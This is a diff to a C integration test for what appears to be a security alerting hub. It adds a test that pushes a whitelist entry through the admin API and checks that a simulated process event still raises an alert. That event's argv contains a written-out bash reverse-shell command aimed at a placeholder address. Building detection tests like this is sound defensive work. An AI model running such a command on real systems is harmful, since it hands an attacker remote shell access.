@@ -29,7 +29,7 @@
 #include "rampart.pb-c.h"
 #include "tests/harness/harness.h"
 
-#define MAX_MARKS 2000
+#define MAX_MARKS 2000 /* marker 1999 is the admin test's */
 
 static char bootstrap[256];
 static char keys_path[1024], secret[80];
@@ -415,6 +415,28 @@ static void test_admin_api_and_reload(void **state)
         alerts_wait(&a, 1 << 30, 100);
     assert_int_equal(a.other, other0 + 2); /* the pushed rule is still in force */
     unlink(path);
+
+    /* a pushed whitelist entry silences the rule; a reverse shell from the same agent (same
+     * partition, so its alert comes after any alert of the first event) shows it was read */
+    char wurl[160];
+    snprintf(wurl, sizeof(wurl), "http://127.0.0.1:%u/api/v1/whitelist", (unsigned)http_port);
+    const char *wl = "whitelist:\n  - id: integ_quiet\n    rules: [integ_*]\n"
+                     "    match: {agent_id: agent-x}\n";
+    assert_int_equal(harness_http_signed("PUT", wurl, wl, strlen(wl), "hub-admin", secret, 0, &r),
+                     0);
+    assert_int_equal(r.status, 200);
+    assert_non_null(strstr(r.body, "integ_quiet"));
+    harness_http_response_free(&r);
+    send_event(p, 59, "agent-x", 1800000002, ev, 3);
+    char argv[96];
+    snprintf(argv, sizeof(argv), "argv=bash -i >& /dev/tcp/203.0.113.9/%d 0>&1", 20000 + 1999);
+    const char *shell[] = {"exe=/bin/bash", "comm=bash", argv, "pid=11999"};
+    send_event(p, 59, "agent-x", 1800000003, shell, 4);
+    rd_kafka_flush(p, 10000);
+    for (int i = 0; i < 100 && a.seen[1999] == 0; i++)
+        alerts_wait(&a, 1 << 30, 100);
+    assert_int_equal(a.seen[1999], 1);
+    assert_int_equal(a.other, other0 + 2); /* nothing from integ_marker */
     alerts_close(&a);
     rd_kafka_destroy(p);
     assert_int_equal(WEXITSTATUS(harness_stop(hub)), 0);
